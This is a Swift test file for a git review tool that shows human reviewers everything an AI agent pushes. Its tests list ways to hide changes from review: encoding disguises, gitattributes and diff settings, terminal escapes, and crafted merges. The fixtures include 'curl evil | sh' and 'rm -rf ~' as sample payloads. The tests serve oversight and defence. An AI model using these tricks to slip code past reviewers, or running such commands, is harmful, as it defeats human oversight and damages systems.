import Primitives
import Signing
import TestSupport
import Testing

/// What a reviewer is shown before they sign (bypass 61): nothing that a pusher puts in stays unseen.
@Suite("What a reviewer is shown")
struct ReviewPageTests {
  let server: GuardedServer

  init() throws {
    self.init(server: try GuardedServer())
  }

  private init(server: GuardedServer) {
    self.server = server
  }

  /// Runs `hookkit` in a reviewer's clone.
  private func hookkit(
    _ words: String..., as actor: Actor = .dana, env: [String: String] = [:],
    timeLimit: Double = 120
  ) throws -> Outcome {
    let clone = try server.clone(of: actor)
    let bin = try Executables.installed(in: server.sandbox)
    return try server.sandbox.run(
      ["\(bin)/hookkit"] + words, in: clone.path,
      env: server.environment(as: actor).merging([
        "HOOKKIT_POLICY": "\(server.repository.path)/hookkit/policy.toml",
        "HOOKKIT_KEY": server.roster[actor].key?.path ?? "",
      ]) { $1 }.merging(env) { $1 }, timeLimit: timeLimit)
  }

  /// The page of a commit, which must be shown.
  private func page(
    of commit: ObjectID, ref: String = "main", as actor: Actor = .dana,
    sourceLocation: SourceLocation = #_sourceLocation
  ) throws -> String {
    let outcome = try hookkit("review", "show", commit.hex, "--ref", ref, as: actor)
    #expect(outcome.succeeded, "\(outcome)", sourceLocation: sourceLocation)
    return outcome.output
  }

  /// A page as a snapshot keeps it.
  private func seen(_ page: String) -> String { page + "\n" }

  // MARK: Text is text

  /// Texts that say `evil()`, in encodings that git calls binary.
  enum Disguise: String, CaseIterable, Sendable {
    case zeroByte, manyZeroBytes, utf16LittleMarked, utf16BigMarked, utf16Little, utf16Big, utf32
    case gifHeader, zipHeader, controls, latin1, loneReturns

    var bytes: [UInt8] {
      let text = "first()\nevil()\nlast()\n"
      func wide(_ unit: Int, little: Bool, mark: [UInt8] = []) -> [UInt8] {
        mark
          + text.utf8.flatMap { byte in
            let zeros = [UInt8](repeating: 0, count: unit - 1)
            return little ? [byte] + zeros : zeros + [byte]
          }
      }
      return switch self {
      case .zeroByte: Array("first()\n// \u{0}\nevil()\n".utf8)
      case .manyZeroBytes:
        Array(String(repeating: "first() // a long line of ordinary text\n", count: 40).utf8)
          + [UInt8](repeating: 0, count: 60) + Array("\nevil()\n".utf8)
      case .utf16LittleMarked: wide(2, little: true, mark: [0xff, 0xfe])
      case .utf16BigMarked: wide(2, little: false, mark: [0xfe, 0xff])
      case .utf16Little: wide(2, little: true)
      case .utf16Big: wide(2, little: false)
      case .utf32: wide(4, little: true, mark: [0xff, 0xfe, 0, 0])
      case .gifHeader: Array("GIF89a=1;\nevil()\n\u{0}".utf8) + Array(text.utf8)
      case .zipHeader: Array("PK\u{3}\u{4}=1;\nevil()\n".utf8) + Array((text + text).utf8)
      case .controls: Array("a\u{1}b\u{2}\nevil()\n".utf8) + Array((text + text).utf8)
      case .latin1: Array("caf".utf8) + [0xe9, 0x0a] + Array("evil()\n".utf8)
      case .loneReturns: Array("first()\revil()\rlast()\r".utf8)
      }
    }
  }

  @Test(
    "bypass 61: source that git would call binary is shown as text", arguments: Disguise.allCases)
  func disguises(_ disguise: Disguise) throws {
    let work = try server.agentWork([
      "new.js": .file(disguise.bytes), "README": .file(disguise.bytes),
    ])
    let page = try page(of: work)
    // Once as a new file, once as a change of a text.
    let lines = page.split(separator: "\n").filter {
      $0.hasPrefix("+") && $0.replacing("<U+0000>", with: "").contains("evil()")
    }
    let count = disguise.bytes.filter { $0 != 0 }.split(separator: Array("evil()".utf8)).count - 1
    #expect(lines.count == 2 * count, "\(page)")
    #expect(!page.contains("NOT TEXT"), "\(page)")
  }

  @Test("bypass 61: bytes behind a mark of UTF-16 are shown as the shell reads them, too")
  func polyglot() throws {
    let script: [UInt8] = [0xff, 0xfe] + Array("\nrm -rf ~ #\n".utf8)
    let page = try page(of: server.agentWork(["run": .executable(script)]))
    #expect(page.contains("+rm -rf ~ #"), "\(page)")
    #expect(page.contains("new executable file"), "\(page)")
  }

  @Test("bypass 61: letters in pairs between zero bytes are shown as the shell reads them")
  func pairs() throws {
    let script = Array("#\u{0}!\u{0}\n\u{0}rm \u{0}-\u{0}r\u{0} \u{0}~\u{0}\n\u{0}#\u{0}".utf8)
    let page = try page(of: server.agentWork(["run": .executable(script)]))
    #expect(page.contains("rm <U+0000>-<U+0000>r"), "\(page)")
  }

  @Test("bypass 61: of a script that is full of control characters each line is shown")
  func padded() throws {
    let lines = (0..<50).map { "do_\($0)() # \u{1}\u{2}\u{3}\n" }.joined()
    let page = try page(of: server.agentWork(["x.sh": .text("\u{1}\u{2}\nevil()\n" + lines)]))
    #expect(page.contains("evil()"), "\(page)")
    #expect(page.contains("NOT TEXT"), "\(page)")
  }

  @Test("bypass 61: no attribute, configuration or program hides a change")
  func attributes() throws {
    let rules = """
      * -diff binary linguist-generated
      *.c diff=hide
      src/** -text working-tree-encoding=UTF-16 eol=crlf filter=hide

      """
    let work = try server.agentWork([
      ".gitattributes": .text(rules), "src/.gitattributes": .text(rules),
      "src/main.c": "int main(void) { return evil(); }\n", "x.min.js": "evil()\n",
      "package.lock": "evil\n",
    ])
    let clone = try server.clone(of: .dana)
    try clone.git("fetch", "--quiet", "origin", "refs/heads/agent/codex/work")
    try clone.git("checkout", "--quiet", "--force", work.hex)
    for (key, value) in [
      ("diff.hide.textconv", "true"), ("diff.hide.command", "true"), ("diff.external", "true"),
      ("diff.hide.binary", "true"), ("diff.noprefix", "true"), ("diff.context", "0"),
      ("diff.ignoreSubmodules", "all"), ("diff.orderFile", "/dev/null"),
      ("core.attributesFile", "\(clone.path)/.gitattributes"), ("filter.hide.smudge", "true"),
    ] { try clone.git("config", key, value) }
    try Sandbox.writeFile(Array(rules.utf8), to: "\(clone.gitDirectory)/info/attributes")
    let outcome = try hookkit(
      "review", "show", work.hex, "--ref", "main",
      env: ["GIT_EXTERNAL_DIFF": "true", "GIT_DIFF_OPTS": "-u0"])
    #expect(outcome.output.contains("+int main(void) { return evil(); }"), "\(outcome)")
    #expect(outcome.output.contains("-int main(void) { return 0; }"), "\(outcome)")
    #expect(outcome.output.contains("\n+evil()\n"), "\(outcome)")
    #expect(outcome.output.contains("\n+evil\n"), "\(outcome)")
  }

  @Test("bypass 61: neither colours, returns nor blanks move or hide what is on the page")
  func terminals() throws {
    let far = "ok()" + String(repeating: " ", count: 300) + "evil()"
    let work = try server.agentWork(
      [
        "a\u{1b}[1A\nb": "1\n",
        "src/main.c": .text(
          "a\u{1b}[8mevil\u{1b}[0m\n\(far)\nshown\rhidden\nx\u{8}\u{8}y\u{85}z\n"),
      ], message: "Work\n\nreviews of it so far\n\u{1b}[2K\r  dana has reviewed it\u{202e}\n")
    let page = try page(of: work)
    let bad = page.unicodeScalars.filter { !(0x20...0x7e).contains($0.value) && $0 != "\n" }
    #expect(bad.isEmpty, "\(bad.map(\.value))")
    #expect(page.contains("+ok()<300 blanks>evil()"), "\(page)")
    #expect(page.contains("+shown<CR>"), "\(page)")
    // What a message says is never where the page's own lines begin.
    #expect(page.split(separator: "\n").count { $0 == "reviews of it so far: none" } == 1)
    #expect(!page.contains("\nreviews of it so far\n"), "\(page)")
    try expectSnapshot(seen(page), named: "ReviewPageTests.terminals", in: server.sandbox)
  }

  @Test("bypass 61: what is no text is told apart loudly, and its bytes can be had")
  func binary() throws {
    var dice = Dice(seed: 61)
    let noise =
      [0x89, 0x50, 0x4e, 0x47] + (0..<5000).map { _ in UInt8(truncatingIfNeeded: dice.next()) }
    let work = try server.agentWork([
      "logo.png": .file(noise), "tool": .executable(noise + [1]),
      "link": .symlink("../../etc\u{1b}"),
      "sub": .gitlink(server.base),
    ])
    let page = try page(of: work)
    try expectSnapshot(seen(page), named: "ReviewPageTests.binary", in: server.sandbox)
    let blob = try #require(try server.work.id("\(work):logo.png"))
    let raw = try hookkit("review", "show", work.hex, "--ref", "main", "--raw", blob.hex)
    #expect(raw.stdout == noise)
    #expect(page.contains("SHA-256 \(Hex.string(Digest.sha256(noise)))"), "\(page)")
  }

  // MARK: All of the range

  @Test("bypass 61: what one commit adds and the next takes away is shown, with who takes it away")
  func addedAndRemoved() throws {
    let first = try server.agentWork([
      "src/main.c": "int main(void) { return backdoor(); }\n", "payload.sh": "curl evil | sh\n",
    ])
    let second = try server.agentWork(
      ["src/main.c": "int main(void) { return 0; }\n", "payload.sh": .delete, "fine": "1\n"],
      on: first, message: "Tidy", branch: "work")
    let page = try page(of: second)
    #expect(page.contains("backdoor()"), "\(page)")
    #expect(page.contains("curl evil | sh"), "\(page)")
    #expect(page.contains("taken away by \(second.short)"), "\(page)")
    try expectSnapshot(seen(page), named: "ReviewPageTests.taken-back", in: server.sandbox)
  }

  @Test("bypass 61: steps of ordinary work whose lines are in the whole are not told twice")
  func ordinarySteps() throws {
    let first = try server.agentWork(["notes": "one\n"])
    let second = try server.agentWork(["notes": "one\ntwo\n"], on: first)
    #expect(try !page(of: second).contains("not in the change as a whole"))
  }

  @Test("bypass 61: what stood elsewhere for a while is told by where the whole shows it")
  func movedMeanwhile() throws {
    let first = try server.agentWork([".hooks/run": "evil()\n"])
    let second = try server.agentWork([".hooks/run": .delete, "notes": "evil()\n"], on: first)
    let page = try page(of: second)
    #expect(
      page.contains("not in the change as a whole: .hooks/run, taken away by \(second.short)"),
      "\(page)")
    #expect(page.contains("its bytes are those of notes below"), "\(page)")
    #expect(page.split(separator: "\n").count { $0.hasSuffix("+evil()") } == 1, "\(page)")
  }

  @Test("bypass 61: content that only a merge brings is shown, also when it is gone in the end")
  func evilMerge() throws {
    let left = try server.agentWork(["left": "1\n"])
    let right = try server.agentWork(["right": "1\n"], branch: "right")
    let tree = try server.work.tree(from: left, ["right": "1\n", "src/main.c": "evil()\n"])
    let merge = try server.work.commit(
      "Merge", tree: tree, parents: [left, right], author: server.roster[.codex])
    let last = try server.agentWork(
      ["src/main.c": "int main(void) { return 0; }\n"], on: merge, branch: "work")
    let page = try page(of: last)
    #expect(page.contains("this merge is not what merging its parents gives"), "\(page)")
    #expect(page.contains("has content of its own in src/main.c"), "\(page)")
    #expect(page.contains("+evil()"), "\(page)")
  }

  @Test("bypass 61: a merge that quietly takes one side's old state says whose work it drops")
  func rollbackMerge() throws {
    let work = try server.agentWork(["work": "1\n"])
    try server.approve(work, by: .dana)
    let mend = try server.commit("Mend", ["src/main.c": "mended()\n"], by: .dana, signed: true)
    try server.lands(mend, as: .dana)
    let tree = try #require(try server.work.id("\(work)^{tree}"))
    let merge = try server.work.commit(
      "Merge main", tree: tree, parents: [mend, work], author: server.roster[.dana],
      signedBy: server.roster[.dana])
    let refused = try server.refuses(as: .dana, "\(merge):main", with: "HK102")
    // The very command that the refusal names, where a tag has the short name.
    #expect(refused.remoteWords.contains("hookkit review show \(merge.hex)"), "\(refused)")
    try server.work.git(
      "push", "--quiet", server.repository.path, "\(merge):refs/heads/agent/x",
      env: ["HOOKKIT_PUSHER": "dana"])
    let clone = try server.clone(of: .frank)
    try clone.git("tag", merge.short, work.hex)
    let page = try page(of: merge, ref: "refs/heads/main", as: .frank)
    #expect(page.contains("its files are those of parent \(work.hex)"), "\(page)")
    #expect(page.contains("drops what parent \(mend.hex) has in src/main.c"), "\(page)")
    #expect(page.contains("-mended()"), "\(page)")
    try expectSnapshot(seen(page), named: "ReviewPageTests.rollback", in: server.sandbox)
  }

  @Test("bypass 61: in a clone without files they are fetched and shown, merges too")
  func partialClone() throws {
    try server.repository.git("config", "uploadpack.allowFilter", "true")
    try server.repository.git("config", "uploadpack.allowAnySHA1InWant", "true")
    let left = try server.agentWork(["left": "1\n", "passing": "detour()\n"])
    let right = try server.agentWork(["right": "1\n"], branch: "right")
    let tree = try server.work.tree(from: left, ["right": "1\n", "passing": .delete])
    let merge = try server.work.commit(
      "Merge", tree: tree, parents: [left, right], author: server.roster[.codex])
    try server.pushed(as: .codex, "\(merge):refs/heads/agent/codex/work")
    try server.sandbox.git(
      "clone", "--quiet", "--no-checkout", "--filter=blob:none",
      "file://\(server.repository.path)", "clone-frank")
    let page = try page(of: merge, as: .frank)
    #expect(page.contains("+detour()"), "\(page)")
    #expect(page.contains("== left: new file, +1 -0"), "\(page)")
  }

  @Test("bypass 61: a merge of three that drops one of them says so")
  func octopus() throws {
    let heads = try ["a", "b", "c"].map { try server.agentWork([$0: "1\n"], branch: $0) }
    let tree = try server.work.tree(from: heads[0], ["b": "1\n"])
    let merge = try server.work.commit(
      "Merge", tree: tree, parents: heads, author: server.roster[.codex])
    try server.pushed(as: .codex, "\(merge):refs/heads/agent/codex/three")
    let page = try page(of: merge)
    #expect(page.contains("drops what parent \(heads[2].hex) has in c"), "\(page)")
    #expect(!page.contains("drops what parent \(heads[1].hex)"), "\(page)")
  }

  @Test("bypass 61: what a file only points to is said not to be shown")
  func pointers() throws {
    let pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n"
    let page = try page(
      of: server.agentWork(["big": .text(pointer), "sub": .gitlink(server.base)]))
    #expect(page.contains("!! it is a pointer of git-lfs"), "\(page)")
    #expect(page.contains("!! it is a submodule"), "\(page)")
  }

  @Test("bypass 61: a new protected branch is shown from the commit that has landed below it")
  func newBranch() throws {
    try server.write(
      server.roster.policy(rules: Roster.team.replacing("\"head\"", with: "\"exact\"")),
      to: "policy.toml")
    let landed = try server.commit("Landed", ["landed": "1\n"], by: .dana, signed: true)
    try server.lands(landed, as: .dana)
    let later = try server.commit("Later", ["later": "1\n"], by: .dana, on: landed, signed: true)
    try server.lands(later, as: .dana)
    let work = try server.agentWork(["work": "1\n"], on: landed)
    let page = try page(of: work, ref: "refs/heads/release/1")
    #expect(page.contains("base        \(landed.hex), landed"), "\(page)")
    #expect(page.contains("1 commit, the newest first"), "\(page)")
    #expect(!page.contains("README") && !page.contains("== landed"), "\(page)")
    let approved = try hookkit(
      "review", "approve", work.hex, "--ref", "refs/heads/release/1", "--confirm", work.hex, "-q")
    #expect(approved.succeeded, "\(approved)")
    try server.lands(work, as: .dana, on: "refs/heads/release/1")
  }

  @Test(
    "bypass 61: a commit in the middle of a push is no base; what is not landed above it is shown")
  func middleOfPush() throws {
    let middle = try server.commit("Middle", ["middle": "1\n"], by: .dana, signed: true)
    let tip = try server.commit("Tip", ["tip": "1\n"], by: .dana, on: middle, signed: true)
    try server.lands(tip, as: .dana)
    let work = try server.agentWork(["work": "1\n"], on: middle)
    let page = try page(of: work, ref: "refs/heads/release/1")
    #expect(page.contains("base        \(server.base.hex), landed"), "\(page)")
    #expect(page.contains("== middle: new file"), "\(page)")
    #expect(page.contains("== work: new file"), "\(page)")
  }

  @Test("bypass 61: above one of two landed commits everything is shown, the other one's work too")
  func twoLanded() throws {
    let main = try server.commit("Main", ["main": "1\n"], by: .dana, signed: true)
    try server.lands(main, as: .dana)
    let other = try server.commit("Other", ["other": "1\n"], by: .dana, signed: true)
    try server.lands(other, as: .dana, on: "refs/heads/release/0")
    let tree = try server.work.tree(from: main, ["other": "1\n", "evil": "1\n"])
    let merge = try server.work.commit(
      "Merge", tree: tree, parents: [main, other], author: server.roster[.codex])
    try server.pushed(as: .codex, "\(merge):refs/heads/agent/codex/work")
    let page = try page(of: merge, ref: "refs/heads/release/1")
    #expect(page.contains("2 commits, the newest first"), "\(page)")
    #expect(page.contains("has content of its own in evil"), "\(page)")
    #expect(page.contains("== evil: new file"), "\(page)")
    let approved = try hookkit(
      "review", "approve", merge.hex, "--ref", "refs/heads/release/1", "--confirm", merge.hex, "-q")
    #expect(approved.succeeded, "\(approved)")
    try server.lands(merge, as: .dana, on: "refs/heads/release/1")
  }

  @Test("bypass 61: what lands with a held change of dependency files is shown as fully")
  func held() throws {
    let server = try GuardedServer(
      policy: { $0.policy(rules: Roster.team + "\n" + Roster.quarantine) },
      files: ["package-lock.json": GuardedServer.lock()])
    let scene = ReviewPageTests(server: server)
    let first = try server.commit(
      "Bump",
      [
        "package-lock.json": GuardedServer.lock(version: "7.0.1"), "passing": "detour()\n",
      ], by: .codex)
    let second = try server.commit(
      "Work", ["passing": .delete, "work.js": .file(Disguise.utf16Little.bytes)], by: .codex,
      on: first)
    let push = try server.push(as: .codex, "\(second):refs/heads/agent/codex/deps")
    #expect(push.codes.contains("HK201"), "\(push)")
    let hold = try #require(try server.holds().first)
    let shown = try scene.hookkit("quarantine", "show", hold)
    #expect(shown.output.contains("7.0.0 -> 7.0.1"), "\(shown)")
    #expect(shown.output.contains("+detour()"), "\(shown)")
    #expect(shown.output.contains("+evil()"), "\(shown)")
    #expect(shown.output.contains("pushed by   svc-codex"), "\(shown)")
    #expect(shown.output.contains("dana: your release counts"), "\(shown)")
    let sponsors = try scene.hookkit("quarantine", "show", hold, as: .erin)
    #expect(
      sponsors.output.contains("erin: your release does not count: erin is its sponsor"),
      "\(sponsors)")
    // The page comes before the question whether to sign.
    let released = try scene.hookkit("quarantine", "release", hold, "--confirm", hold)
    #expect(released.succeeded && released.output.contains("+detour()"), "\(released)")
    #expect(try server.tip("refs/heads/agent/codex/deps") == second)
  }

  // MARK: Nothing is too large

  @Test("bypass 61: a change of 70 MB is shown, folded, and can be approved")
  func large() throws {
    var big = Array("the same line of text in a file of seventy million bytes, again, again\n".utf8)
    for _ in 0..<20 { big += big }
    let work = try server.agentWork(["big.txt": .file(big), "src/main.c": "evil()\n"])
    let approved = try hookkit(
      "review", "approve", work.hex, "--ref", "main", "--confirm", work.hex, timeLimit: 300)
    #expect(approved.succeeded, "\(approved.errors)")
    #expect(approved.output.contains("FOLDED: 1,046,576 more changed lines of big.txt"))
    #expect(approved.output.contains("+evil()"))
    #expect(approved.stdout.count < 1 << 20)
    try server.lands(work, as: .dana)
  }

  @Test("bypass 61: what is folded is shown whole when it is asked for")
  func unfolded() throws {
    let text = (0..<5000).map { "line \($0)\n" }.joined() + "evil()\n"
    let work = try server.agentWork(["a\u{1b}b": .text(text)])
    let folded = try page(of: work)
    #expect(!folded.contains("evil()"))
    let command =
      "hookkit review show \(work.hex) --ref refs/heads/main --path 'a\\x1bb'"
    #expect(
      folded.contains("FOLDED: 3,001 more changed lines of a\\x1bb"), "\(folded.suffix(2000))")
    #expect(folded.contains("all of it: \(command)"), "\(folded.suffix(2000))")
    let all = try hookkit("review", "show", work.hex, "--ref", "main", "--path", "a\\x1bb")
    #expect(all.output.contains("\n+evil()\n"))
    let everything = try hookkit("review", "show", work.hex, "--ref", "main", "--all")
    #expect(everything.output.contains("\n+evil()\n"))
  }

  @Test("bypass 61: one word in a line of a megabyte is a change of one short line")
  func longLine() throws {
    let pieces = (0..<40_000).map { "f(\($0));g(\"value number \($0)\");" }
    let before = try server.commit(
      "Bundle", ["app.js": .text(pieces.joined())], by: .dana, signed: true)
    try server.lands(before, as: .dana)
    var after = pieces
    after[20_000] = "evil();" + after[20_000]
    let work = try server.agentWork(["app.js": .text(after.joined())], on: before)
    let page = try page(of: work)
    #expect(page.contains("evil();"), "\(page.prefix(4000))")
    #expect(page.utf8.count < 20_000)
  }

  // MARK: Whether it will count

  @Test("a reviewer whose review will not count is told so, and who can review instead")
  func ownReview() throws {
    let work = try server.commit("Work", ["work": "1"], by: .codex, signed: true)
    try server.pushed(as: .codex, "\(work):refs/heads/agent/codex/work")
    let dana = try page(of: work)
    #expect(dana.contains("dana: your review counts"), "\(dana)")
    #expect(
      dana.contains(
        "reviews     0 of 1 (dana, frank can; erin is sponsor of the agent of 1 commit)"),
      "\(dana)")
    let erin = try page(of: work, as: .erin)
    #expect(
      erin.contains("erin: your review does not count, you are sponsor of the agent"), "\(erin)")
    let approved = try hookkit(
      "review", "approve", work.hex, "--ref", "main", "-q", as: .erin)
    #expect(approved.errors.contains("for those this review does not count"), "\(approved)")
  }

  @Test("a commit dated in the future is not approved for nothing")
  func future() throws {
    let work = try server.work.commit(
      "Work", ["work": "1"], on: nil, author: server.roster[.codex], parents: [server.base],
      date: 2_051_222_400)
    try server.pushed(as: .codex, "\(work):refs/heads/agent/codex/work")
    let shown = try page(of: work)
    #expect(
      shown.contains("no review counts that is signed before 2034-12-31T23:50:00Z"), "\(shown)")
    let approved = try hookkit(
      "review", "approve", work.hex, "--ref", "main", "--confirm", work.hex, "-q")
    #expect(approved.exit == 1)
    #expect(approved.errors.contains("would never count"), "\(approved)")
    #expect(try server.tip("refs/hookkit/ledger") == nil)
  }
}
